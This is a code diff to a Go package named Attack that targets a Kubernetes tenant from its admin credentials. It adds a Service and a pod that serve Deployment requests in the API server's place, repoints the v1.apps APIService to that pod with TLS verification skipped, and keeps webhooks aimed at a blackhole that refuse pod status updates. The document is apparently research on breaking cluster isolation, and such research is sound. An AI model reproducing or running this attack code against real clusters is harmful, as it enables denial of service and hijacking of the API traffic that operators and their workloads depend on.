@@ -22,6 +22,8 @@ import (
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/util/intstr"
+	"k8s.io/apimachinery/pkg/util/wait"
 	"k8s.io/client-go/rest"
 	"k8s.io/client-go/util/workqueue"
 	"sigs.k8s.io/controller-runtime/pkg/client"
@@ -39,6 +41,8 @@ const (
 	nodeSize = 400_000
 	// churn is how often one of them changes.
 	churn = 50 * time.Millisecond
+	// server is the Service that answers for Deployments.
+	server = "oversized"
 	// slowness of each webhook, in seconds.
 	slowness = 10
 )
@@ -53,8 +57,9 @@ type Attack struct {
 // Start does it all to the tenant that config is the admin of: it returns when
 // everything is in place, and the churn goes on until Stop. blackhole is an
 // address on which the tenant's API server finds nobody; worker is the Node that
-// gets the pods.
-func Start(ctx context.Context, config *rest.Config, blackhole, worker string) (*Attack, error) {
+// gets the pods. image is that of the server beside this package, which answers in
+// the place of the tenant's API server; without it, nobody does.
+func Start(ctx context.Context, config *rest.Config, blackhole, worker, image string) (*Attack, error) {
 	config = rest.CopyConfig(config)
 	config.QPS = -1
 	c, err := client.New(config, client.Options{})
@@ -66,6 +71,7 @@ func Start(ctx context.Context, config *rest.Config, blackhole, worker string) (
 		name string
 		do   func(context.Context) error
 	}{
+		{"server of oversized answers", func(ctx context.Context) error { return a.serve(ctx, image, worker) }},
 		// From here on no kubelet can say that a pod has ended.
 		{"refuse the status of pods", func(ctx context.Context) error {
 			return a.webhook(ctx, "status", blackhole, 1, admissionv1.Update, "pods/status")
@@ -182,13 +188,38 @@ func (a *Attack) churn(ctx context.Context) {
 	}
 }
 
-// repoint sends everybody who asks for Deployments to a Service that does not answer.
+// serve has a pod answer for the Service that Deployments are asked of.
+func (a *Attack) serve(ctx context.Context, image, worker string) error {
+	service := &corev1.Service{
+		ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceDefault, Name: server},
+		Spec: corev1.ServiceSpec{
+			Selector: map[string]string{"app": server},
+			Ports:    []corev1.ServicePort{{Port: 443, TargetPort: intstr.FromInt32(8443)}},
+		},
+	}
+	if err := a.client.Create(ctx, service); err != nil || image == "" {
+		return client.IgnoreAlreadyExists(err)
+	}
+	pod := &corev1.Pod{
+		ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceDefault, Name: server, Labels: service.Spec.Selector},
+		Spec:       corev1.PodSpec{NodeName: worker, Containers: []corev1.Container{{Name: "c", Image: image}}},
+	}
+	if err := a.client.Create(ctx, pod); client.IgnoreAlreadyExists(err) != nil {
+		return err
+	}
+	return wait.PollUntilContextTimeout(ctx, time.Second, 5*time.Minute, true, func(ctx context.Context) (bool, error) {
+		err := a.client.Get(ctx, client.ObjectKeyFromObject(pod), pod)
+		return pod.Status.Phase == corev1.PodRunning, err
+	})
+}
+
+// repoint sends everybody who asks for Deployments to a Service of the tenant's own.
 func (a *Attack) repoint(ctx context.Context) error {
 	service := &unstructured.Unstructured{Object: map[string]any{
 		"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": map[string]any{"name": "v1.apps"},
 		"spec": map[string]any{
 			"group": "apps", "version": "v1", "groupPriorityMinimum": int64(17800), "versionPriority": int64(15),
-			"insecureSkipTLSVerify": true, "service": map[string]any{"namespace": metav1.NamespaceDefault, "name": "nobody"},
+			"insecureSkipTLSVerify": true, "service": map[string]any{"namespace": metav1.NamespaceDefault, "name": server},
 		},
 	}}
 	return a.client.Patch(ctx, service, client.Merge)
